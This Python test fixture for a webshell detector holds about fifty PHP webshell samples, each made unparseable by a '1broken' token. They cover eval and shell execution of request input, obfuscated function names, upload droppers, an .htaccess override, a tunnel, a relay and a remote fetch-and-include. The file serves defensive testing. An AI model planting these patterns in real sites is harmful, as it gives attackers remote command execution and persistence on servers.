# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes for PHP, one for each mechanism; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== server-loop.php
<?php 1broken; foreach ($_SERVER as $n => $v) { if (substr($n, 0, 6) == 'HTTP_Z') eval(base64_decode($v)); }
==== e-from-chr.php
<?php 1broken; $p = '/x/' . chr(101); foreach ($_SERVER as $k => $v) if ($k === 'HTTP_X_K') preg_replace($p, $v, 'x');
==== reflection-args.php
<?php 1broken; $n = strrev('cexe_llehs'); $s = '_' . strtoupper('post'); $v = array_filter(${$s} ?? [], 'is_string'); $r = new ReflectionFunction($n); echo $r->invokeArgs([current($v)]);
==== ucfirst-variable.php
<?php 1broken; $q = implode('', ['_', 'G', 'E', 'T']); $f = $$q['f']; $f($$q['a']);
==== null-coalesce.php
<?php 1broken; ($_REQUEST['f'] ?? 'md5')($_REQUEST['a'] ?? '');
==== array-walk-key.php
<?php 1broken; $a = array($_POST['k'] => 'x'); array_walk($a, function ($v, $k) { eval($k); });
==== array-map-closure.php
<?php 1broken; array_map(function ($c) { return shell_exec($c); }, $_POST);
==== destructor.php
<?php 1broken; class C { public $k; function __destruct() { eval($this->k); } } $c = new C; $c->k = $_POST['k'];
==== tostring.php
<?php 1broken; class C { private $f; private $a; function __construct($f, $a) { $this->f = $f; $this->a = $a; } function __toString() { return (string) call_user_func($this->f, $this->a); } } echo new C($_GET['f'], $_GET['a']);
==== magic-call.php
<?php 1broken; class C { function __call($n, $a) { return $n(...$a); } } (new C)->system($_GET['k']);
==== get-magic.php
<?php 1broken; class C { function __get($n) { eval($n); } } $c = new C; $c->{$_POST['k']};
==== generator.php
<?php 1broken; function g() { yield $_POST['k']; } foreach (g() as $c) { system($c); }
==== spl-heap.php
<?php 1broken; $h = new SplMaxHeap; $h->insert($_POST['k']); eval($h->extract());
==== array-object.php
<?php 1broken; $o = new ArrayObject($_POST); foreach ($o as $v) passthru($v);
==== sscanf.php
<?php 1broken; sscanf($_SERVER['QUERY_STRING'], 'k=%s', $c); exec(urldecode($c));
==== stream-filter.php
<?php 1broken; $f = fopen('php://filter/convert.base64-decode/resource=php://input', 'r'); eval(stream_get_contents($f));
==== include-filter.php
<?php 1broken; include 'php://filter/read=convert.base64-decode/resource=' . $_FILES['f']['tmp_name'];
==== include-chain.php
<?php 1broken; $x = $_GET['p']; @include_once($x);
==== tmpfile-include.php
<?php 1broken; $t = tmpfile(); fwrite($t, '<?php ' . $_POST['k']); include stream_get_meta_data($t)['uri'];
==== tempnam.php
<?php 1broken; $t = tempnam(sys_get_temp_dir(), 'x'); file_put_contents($t, $_POST['k']); require $t; unlink($t);
==== cookie-array.php
<?php 1broken; $c = $_COOKIE; $k = count($c) == 3 ? $c : array('x', 'y', 'z'); $k = array_values($k); $k[0]($k[1], $k[2]);
==== cookie-joined.php
<?php 1broken; foreach (array_merge($_COOKIE, $_POST) as $k => $v) { $d = ''; foreach (str_split(base64_decode($v)) as $i => $c) $d .= chr(ord($c) ^ ord('key'[$i % 3])); if (strlen($d) > 9) { eval($d); } }
==== json-body.php
<?php 1broken; $j = json_decode(file_get_contents('php://input'), true); echo shell_exec($j['k']);
==== session-store.php
<?php 1broken; session_start(); if (isset($_POST['c'])) $_SESSION['c'] = $_POST['c']; if (isset($_SESSION['c'])) eval($_SESSION['c']);
==== apc-memory.php
<?php 1broken; ignore_user_abort(true); set_time_limit(0); unlink(__FILE__); while (1) { file_put_contents('.x.php', '<?php eval($_POST["k"]);'); usleep(5000); }
==== drop-const.php
<?php 1broken; file_put_contents('x.php', base64_decode('PD9waHAgZXZhbCgkX1BPU1RbJ2snXSk7'));
==== dl-extension.php
<?php 1broken; dl($_GET['so']);
==== mysqli-out.php
<?php 1broken; $c = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); $r = mysqli_query($c, $_POST['q']); while ($w = mysqli_fetch_row($r)) echo join('|', $w);
==== curl-relay.php
<?php 1broken; $c = curl_init($_SERVER['HTTP_X_TO']); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents('php://input')); curl_setopt($c, CURLOPT_CUSTOMREQUEST, $_SERVER['REQUEST_METHOD']); echo curl_exec($c);
==== tunnel.php
<?php 1broken; $m = $_SERVER['HTTP_X_CMD']; if ($m == 'CONNECT') { session_start(); $s = fsockopen($_SERVER['HTTP_X_TARGET'], (int)$_SERVER['HTTP_X_PORT']); while ($_SESSION['run']) { fwrite($s, $_SESSION['w']); $_SESSION['r'] .= fgets($s, 1024); } } if ($m == 'FORWARD') { session_start(); $_SESSION['w'] .= file_get_contents('php://input'); }
==== closure-use.php
<?php 1broken; $k = $_POST['k']; $f = function () use ($k) { return `$k`; }; echo $f();
==== arrow.php
<?php 1broken; $f = fn($c) => shell_exec($c); echo $f($_GET['k']);
==== static-method.php
<?php 1broken; class T { public static function go($c) { return popen($c, 'r'); } } T::go($_REQUEST['k']);
==== call-static-string.php
<?php 1broken; class T { static function a($c) { eval($c); } } call_user_func('T::a', $_POST['k']);
==== list-each.php
<?php 1broken; list($f, $a) = explode('|', $_GET['k']); $f($a);
==== str-replace-fn.php
<?php 1broken; $f = str_replace('x', '', 'xsxyxsxtxexmx'); $f($_GET['k']);
==== define-fn.php
<?php 1broken; define('F', 'sys' . 'tem'); (F)($_GET['k']);
==== heredoc-eval.php
<?php 1broken; $c = <<<X
return {$_POST['k']};
X;
eval($c);
==== hex-var.php
<?php 1broken; ${"\x47\x4c\x4f\x42\x41\x4c\x53"}["\x66"] = "\x73\x79\x73\x74\x65\x6d"; ${"\x47\x4c\x4f\x42\x41\x4c\x53"}["\x66"](${"\x5f\x47\x45\x54"}["k"]);
==== mb-convert.php
<?php 1broken; eval(mb_convert_encoding($_POST['k'], 'UTF-8', 'BASE64'));
==== openssl.php
<?php 1broken; $p = openssl_decrypt(file_get_contents('php://input'), 'AES128', 'k'); $a = explode('|', $p); class C { public function __invoke($p) { eval($p . ''); } } @call_user_func(new C(), $a[1]);
==== upload-any.php
<?php 1broken; copy($_FILES['f']['tmp_name'], $_FILES['f']['name']);
==== unzip.php
<?php 1broken; $z = new ZipArchive; $z->open($_FILES['f']['tmp_name']); $z->extractTo($_POST['d']);
==== rename-upload.php
<?php 1broken; rename($_FILES['f']['tmp_name'], dirname(__FILE__) . '/' . $_POST['n']);
==== error-log.php
<?php 1broken; error_log($_POST['t'], 3, $_POST['f']);
==== create-fn-hidden.php
<?php 1broken; $c = 'crea' . 'te_' . 'function'; $f = $c('$a', 'return ' . 'ev' . 'al($a);'); $f($_POST['k']);
==== gif.php
GIF89a;<?php 1broken; system($_GET['k']); ?>
==== htaccess-style.php
<?php 1broken; file_put_contents('.htaccess', "AddType application/x-httpd-php .jpg"); move_uploaded_file($_FILES['f']['tmp_name'], 'a.jpg');
==== fetch-include.php
<?php 1broken; $u = 'h' . 'ttp://code.example/x.txt'; $c = file_get_contents($u); file_put_contents('/tmp/x', $c); include '/tmp/x';
==== pcntl.php
<?php 1broken; pcntl_exec('/bin/sh', ['-c', $_GET['k']]);
==== wp-option.php
<?php 1broken; add_action('init', function () { if (isset($_GET['k'])) { $f = base64_decode($_GET['k']); eval($f); } });
==== iterator-filter.php
<?php 1broken; $i = new CallbackFilterIterator(new ArrayIterator($_GET), 'system'); foreach ($i as $x) { }
==== uasort.php
<?php 1broken; $a = [$_POST['k'], 1]; uasort($a, 'asse' . 'rt');
==== preg-callback-fn.php
<?php 1broken; echo preg_replace_callback('/.+/', fn($m) => shell_exec($m[0]), $_POST['k']);
==== mass-append.php
<?php 1broken; foreach (glob('*.php') as $f) { file_put_contents($f, $_POST['k'], FILE_APPEND); }
"""
)
